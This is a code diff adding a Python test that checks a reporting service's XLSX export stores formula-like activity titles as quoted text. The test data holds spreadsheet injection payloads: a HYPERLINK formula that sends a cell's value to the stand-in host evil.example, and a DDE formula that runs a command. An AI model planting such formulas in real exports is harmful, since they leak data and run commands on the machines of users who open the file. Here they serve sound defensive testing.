@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from services.reporting.main import create_app
+from shared.contracts import registration as reg
 from shared.testing import running_service
 from tests.reporting import scenario
 from tests.reporting.conftest import publish, settled
@@ -101,3 +102,42 @@ async def test_xlsx_and_pdf_exports_contain_the_numbers(settings_for: Any, auth:
         unit = await client.get("/api/v1/exports/summaries/gxu.pdf", headers=auth("unit", org="gxu"))
         text = pdf_text(unit.content)
         assert "广西大学工作总结" in text and "入选展项 / exhibits accepted 2 " in text
+
+
+async def test_text_that_looks_like_a_formula_is_exported_as_text(settings_for: Any, auth: Any) -> None:
+    titles = [
+        '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+        "科普\x07讲座",  # a control character XLSX cannot hold
+    ]
+    events = [
+        scenario.event(
+            "registration.activity.scheduled.v1",
+            reg.ActivityScheduled(
+                activity_id=f"hostile-{i}",
+                city_code=scenario.GUILIN,
+                activity_type="science_night",
+                title=title,
+                date=scenario.DAY,
+                org_id=scenario.ORGANISER,
+            ),
+        )
+        for i, title in enumerate(titles)
+    ]
+    async with running_service(create_app(settings_for("reporting"))) as (runtime, client):
+        await publish(runtime, events)
+        await settled(runtime, len(events), len(events))
+        workbook = await client.get("/api/v1/exports/dashboard.xlsx", headers=auth("admin"))
+        assert workbook.status_code == 200, workbook.text
+    sheet = load_workbook(io.BytesIO(workbook.content))["活动 activities"]
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("名称 / title")] for row in sheet.iter_rows(min_row=2)]
+    assert {c.data_type for c in cells} == {"s"}, [(c.value, c.data_type) for c in cells]
+    assert all(c.quotePrefix for c in cells if c.value != "科普讲座")
+    # the text itself is kept (an XML reader gives a CR back as a line feed)
+    assert sorted(str(c.value) for c in cells) == sorted(t.replace("\r", "\n").replace("\x07", "") for t in titles)
